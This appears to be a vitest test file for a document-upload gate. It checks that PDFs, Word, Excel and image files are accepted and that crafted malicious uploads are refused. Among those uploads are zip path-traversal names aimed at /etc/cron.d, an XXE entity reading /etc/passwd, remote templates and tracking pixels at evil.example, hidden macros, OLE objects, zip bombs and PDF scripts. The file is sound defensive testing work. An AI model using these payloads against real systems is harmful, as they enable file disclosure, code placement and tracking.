import { describe, expect, it } from 'vitest';
import type { RefusalCode } from '../../domain/refusals.ts';
import * as made from '../../tests/support/uploads.ts';
import { LARGEST_UPLOAD, type VirusScanner } from '../upload-ports.ts';
import { inForeignProcess } from './foreign-process.ts';
import { openUploads } from './open-uploads.ts';

const uploads = openUploads({ scanner: null });
const answerTo = async (bytes: Buffer): Promise<string> => {
  const answer = await uploads.check(bytes);
  return 'refused' in answer ? answer.refused.code : `${answer.mediaType} ${answer.pages}`;
};

type Made = () => Buffer | Promise<Buffer>;

const { docx, contentTypes, relation, relationships, withRoot, saved, script } = made;
const withType =
  (main: string, more = ''): Made =>
  () =>
    docx({ '[Content_Types].xml': contentTypes(main, more) });
const withRelation =
  (type: string, target: string, mode = ' TargetMode="External"'): Made =>
  () =>
    docx({ 'word/_rels/document.xml.rels': relationships(relation(type, target, mode)) });
const scripted = () => withRoot('OpenAction', (one) => one.context.register(one.context.obj(script())));
const override = (type: string) => `<Override PartName="/word/x.bin" ContentType="application/${type}"/>`;

const GOOD: readonly (readonly [string, Made, string])[] = [
  ['a scan as PDF', () => saved(made.pdf(3)), 'application/pdf 3'],
  ['a PDF with object streams', () => saved(made.pdf(2), true), 'application/pdf 2'],
  [
    'a PDF that opens on its first page, as LibreOffice writes it',
    () => saved(withRoot('OpenAction', (one) => [one.getPage(0).ref, 'XYZ', null, null, 0])),
    'application/pdf 1',
  ],
  [
    'a PDF with a link to press',
    () =>
      saved(
        made.pdf(1, (one) => {
          one.context.register(one.context.obj({ S: 'URI', URI: 'https://congdoan.example/' }));
        }),
      ),
    'application/pdf 1',
  ],
  [
    'a Word file with a link',
    () => docx(),
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document null',
  ],
  ['an Excel file', () => made.xlsx(), 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet null'],
  ['a photograph', () => made.jpeg(), 'image/jpeg 1'],
  ['a picture', () => made.png(), 'image/png 1'],
];

describe('what honest people send', () => {
  it.each(GOOD)('%s is taken', async (_, make, expected) => {
    expect(await answerTo(await make())).toBe(expected);
  });
});

const ATTACKS: readonly (readonly [string, Made, RefusalCode])[] = [
  ['an empty file', () => Buffer.alloc(0), 'UPLOAD_EMPTY'],
  ['a file over the limit', () => Buffer.alloc(LARGEST_UPLOAD + 1, 0x25), 'UPLOAD_TOO_LARGE'],
  ['a program named .pdf', () => Buffer.from('MZ\x90\0 pretends'), 'UPLOAD_TYPE_UNKNOWN'],
  ['a web page', () => Buffer.from('<!doctype html><script>1</script>'), 'UPLOAD_TYPE_UNKNOWN'],
  [
    'a PDF behind other bytes',
    async () => Buffer.concat([Buffer.from('GIF89a'), await saved(made.pdf())]),
    'UPLOAD_TYPE_UNKNOWN',
  ],
  ['a plain zip archive', () => made.zip({ 'a.txt': 'a' }), 'UPLOAD_TYPE_UNKNOWN'],
  ['Word of before 2007', () => made.compoundFile('WordDocument'), 'UPLOAD_OLD_OFFICE'],
  ['Word with a password', () => made.compoundFile('EncryptedPackage'), 'UPLOAD_ENCRYPTED'],
  ['a Word file cut in half', async () => (await docx()).subarray(0, 300), 'UPLOAD_DAMAGED'],
  ['a thousandfold zip bomb', () => made.bomb(100), 'UPLOAD_TOO_COMPLEX'],
  ['a zip that unpacks to more than it says', () => made.liar(), 'UPLOAD_DAMAGED'],
  [
    'three thousand parts',
    () => docx(Object.fromEntries(Array.from({ length: 3000 }, (_, n) => [`word/${n}.xml`, '']))),
    'UPLOAD_TOO_COMPLEX',
  ],
  ['a part that climbs out', () => made.zipWithName('../../etc/cron.d/x'), 'UPLOAD_UNSAFE_PATH'],
  ['a part with an absolute path', () => made.zipWithName('/etc/passwd-x'), 'UPLOAD_UNSAFE_PATH'],
  ['a part with a Windows path', () => made.zipWithName('..\\..\\start.bat'), 'UPLOAD_UNSAFE_PATH'],
  ['two parts of one name', () => docx({ 'word/DOCUMENT.xml': 'a' }), 'UPLOAD_UNSAFE_PATH'],
  ['a zip in a Word file', async () => docx({ 'word/media/a.png': await made.zip({ b: 'c' }) }), 'UPLOAD_NESTED'],
  ['a program in a Word file', () => docx({ 'word/media/a.png': Buffer.from('MZ\x90\0') }), 'UPLOAD_NESTED'],
  ['a .docm renamed', withType('application/vnd.ms-word.document.macroEnabled.main+xml'), 'UPLOAD_MACRO'],
  [
    'a Word file that only lists a macro',
    withType(
      `application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml`,
      override('vnd.ms-office.vbaProject'),
    ),
    'UPLOAD_MACRO',
  ],
  ['a macro part without a listed type', () => docx({ 'word/vbaProject.bin': 'x' }), 'UPLOAD_MACRO'],
  [
    'a macro part under another name',
    withRelation('../2006/relationships/vbaProject', 'harmless.bin', ''),
    'UPLOAD_MACRO',
  ],
  [
    'a Word template',
    withType('application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'),
    'UPLOAD_TYPE_UNKNOWN',
  ],
  [
    'a document type with entities',
    () =>
      docx({
        'word/document.xml': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      }),
    'UPLOAD_DOCTYPE',
  ],
  [
    'the same in UTF-16',
    () => docx({ 'word/document.xml': Buffer.from('\uFEFF<!DOCTYPE a [<!ENTITY b "c">]><a/>', 'utf16le') }),
    'UPLOAD_DOCTYPE',
  ],
  [
    'the same in the list of content types',
    () => docx({ '[Content_Types].xml': '<!DOCTYPE a><Types/>' }),
    'UPLOAD_DOCTYPE',
  ],
  [
    'a template fetched from elsewhere',
    withRelation('attachedTemplate', 'https://evil.example/a.dotm'),
    'UPLOAD_EXTERNAL_LINK',
  ],
  ['a picture that reports who reads', withRelation('image', 'https://evil.example/pixel.png'), 'UPLOAD_EXTERNAL_LINK'],
  [
    'External spelled in references',
    withRelation('image', 'https://evil.example/p.png', ' TargetMode="Ext&#101;rnal"'),
    'UPLOAD_EXTERNAL_LINK',
  ],
  ['a link that opens a file share', withRelation('hyperlink', 'file://server/share'), 'UPLOAD_EXTERNAL_LINK'],
  ['an embedded object', () => docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'UPLOAD_EMBEDDED_OBJECT'],
  [
    'an embedded object under another name',
    withRelation('oleObject', 'media/picture.bin', ''),
    'UPLOAD_EMBEDDED_OBJECT',
  ],
  [
    'an object hidden in a picture',
    () => docx({ 'word/media/a.png': made.compoundFile('Ole10Native') }),
    'UPLOAD_EMBEDDED_OBJECT',
  ],
  ['relations that are no XML', () => docx({ 'word/_rels/document.xml.rels': '<Relationships><a' }), 'UPLOAD_DAMAGED'],
  ['a PDF with a script in an object stream', () => saved(scripted(), true), 'UPLOAD_PDF_SCRIPT'],
  ['a PDF of 301 pages', () => saved(made.pdf(301)), 'UPLOAD_TOO_MANY_PAGES'],
  ['a picture cut in half', async () => (await made.png()).subarray(0, 60), 'UPLOAD_DAMAGED'],
  ['a picture of 64 million points', () => made.png(8000, 8000), 'UPLOAD_TOO_MANY_PIXELS'],
];

describe('what attackers send', () => {
  it.each(ATTACKS)('%s is refused', async (_, make, code) => {
    expect(await answerTo(await make())).toBe(code);
  });

  it('a file that takes too long, or too much memory, loses its process and nothing else', async () => {
    const bytes = await saved(made.pdf());
    const job = { name: 'inspect', kind: 'pdf' } as const;
    await expect(inForeignProcess(bytes, job, { time: 1, memory: 1e12 })).rejects.toThrow('SIGKILL');
    await expect(inForeignProcess(bytes, job, { time: 20_000, memory: 1 })).rejects.toThrow('SIGKILL');
    expect(await answerTo(bytes)).toBe('application/pdf 1');
  });
});

describe('pictures of what was taken', () => {
  const webp = (bytes: Buffer | undefined) => bytes?.subarray(8, 12).toString();

  it('are drawn of pages and photographs, not of Word files or pages that are not there', async () => {
    const bytes = await saved(made.pdf(2));
    expect(webp(await uploads.picture(bytes, 'application/pdf', 2))).toBe('WEBP');
    expect(await uploads.picture(bytes, 'application/pdf', 3)).toBeUndefined();
    expect(webp(await uploads.picture(await made.jpeg(), 'image/jpeg', 1))).toBe('WEBP');
    const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
    expect(await uploads.picture(await docx(), word, 1)).toBeUndefined();
  });
});

describe('with a virus scanner', () => {
  const scanned: Buffer[] = [];
  const finding = (verdict: 'CLEAN' | 'INFECTED'): VirusScanner => ({
    scan: async (bytes) => {
      scanned.push(bytes);
      return verdict;
    },
  });

  it('only what passed the gate is scanned, and what it finds is refused', async () => {
    const strict = openUploads({ scanner: finding('INFECTED') });
    expect(await strict.check(Buffer.from('no file'))).toEqual({ refused: { code: 'UPLOAD_TYPE_UNKNOWN' } });
    expect(scanned).toHaveLength(0);
    const word = await docx();
    expect(await strict.check(word)).toEqual({ refused: { code: 'UPLOAD_VIRUS' } });
    expect(scanned).toEqual([word]);
    expect(await openUploads({ scanner: finding('CLEAN') }).check(word)).toMatchObject({ pages: null });
  });
});
